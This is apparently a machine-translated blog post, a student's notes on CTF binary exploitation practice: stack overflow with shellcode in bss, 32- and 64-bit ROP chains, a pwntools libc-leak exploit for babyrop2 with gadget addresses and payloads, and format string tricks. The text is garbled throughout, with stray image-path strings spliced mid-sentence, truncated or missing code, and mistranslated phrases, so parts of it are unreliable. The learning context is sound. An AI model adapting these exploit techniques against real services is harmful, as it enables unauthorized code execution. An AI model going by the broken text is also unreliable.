A summary of winter vacation


Quote ciscn_ 2019_ n_ five

Open the main function and find that get is still a stack overflow, but shift has no bin and system, and no protection is turned on. When a name variable is opened, it is found to exist on the bss side. Therefore, you want to write thename directly to shellcode, and adjust get to the name function

from pwn import*


r.sendlineafter('tell me your name',shellcode)

r.sendlineafter('What do you want to say to me?',payload)


2.rop chain construction

Quote [HarekazeCTF2019]baby_rop

Open the main function and find that there is a stack overflow condition in scanf. Find bin and system in shift, and then use gadget to find pop rdi ret to construct rop

But it's strange that ls has all but can't cat flag. I don't understand

In the 64 bit rop construction, the parameters are first transferred before calling the function, and the first six parameters are first transferred into the registers rdi,rsi, rdx, rcx, r8d and r9d. Before entering the stack, try to find the address of pop register ret in the static library before construction. Generally speaking, the order of construction is: garbage filling + pop register (the first six parameters are directly transferred later) + calling the function address

The 32-bit rop structure is also similar, but the parameters are directly passed into thestack first, and the parameter transfer methods are different. Specifically, the function is called first, and then the parameters are passed in. The understanding is simpler than that of 64 bit. The construction logic is: garbage filling + calling function address + parameter filling


a. Triathlon (Fifth Division)_ 2018_rop 1

Open the main function, the classic nx protection,no sys and bin, and think of using the leaked address, direct template format, 32-bit template

from pwn import *
from LibcSearcher import *

r=remote('00 ',00)









Very angry, github can't open libc at all so. 6 can't, so I can only see the specific method of disassembly. The same idea as a is changed to 64 bits. It is worth noting that calling printf function calls% s function

from pwn import *
from LibcSearcher import *
context.log_level = 'debug'

#p = process('./babyrop2')
p = remote('00',00)
elf = ELF('babyrop2')

pop_rdi = 0x0000000000400733pop_rsi_r15 = 0x0000000000400731
format_str = 0x0000000000400770
ret_addr = 0x0000000000400734

printf_plt = elf.plt['printf']
read_got = elf.got['read']
main_plt = elf.sym['main']

payload = 'a'*0x28+p64(pop_rdi)+p64(format_str)+p64(pop_rsi_r15)+p64(read_got)+p64(0)+p64(printf_plt)+p64(main_plt)

p.recvuntil("name? ")read_addr = u64(p.recvuntil('\x7f')[-6:].ljust(8, '\x00'))
print hex(read_addr)
libc = LibcSearcher('read', read_addr)
libc_base = read_addr - libc.dump('read')

sys_addr = libc_base + libc.dump('system')
bin_sh = libc_base + libc.dump('str_bin_sh')

payload = 'a'*0x28+p64(pop_rdi)+p64(bin_sh)+p64(sys_addr)

4. Format string


read a printf and the same variable is a formatted string

First gdb debug aaaa, mark the price casually, print it in%08x, and find 11 distances

from pwn import *0x0804a02c four bytes. When input to the address of x=3, it can only be changed to 4

Another type seems to have% s directly leaking flag Txt

Miscellaneous notes

A.buuctf ciscn_2019_ne_5: The parameter of system can be binsh or sh


Due to the strong setting of overflow size, the discussion of unsigned and signed integers increases the input range

C/C + +: integer overflow_ Lee's blog CSDN blog_ Integer Overflow thank

C. Virtual bombed many times. There are many plug-ins that can't be installed. I'm so angry. I found a problem with theinstallation of the virtual machine hard disk on the Internet. I want to laugh. Just try one yourself.

GitHub - Joe1sn/one_shot_pwn: one click deployment pwn basic configuration

It's a little unexpected to see joesn, but it can't be installed

GitHub - skyedai910/PWN_VM_SETUP: PWN virtual machine configuration script cowhide

However, the environment of python2 is always not good. It's very annoying. I'm ready to do it again at the beginning of school

D. Four protection mechanisms Explanation of four protection mechanisms of NX, Canary, relro, pie and Linux_ Peninsula iron box blog - CSDN blog_ Relro protection


Some topics do not need to becompiled. If there is no leave, there is no need to fill in ebp

Keywords: C# pwn

Added by manimoor onSat, 19 Feb 2022 07:23:17 +0200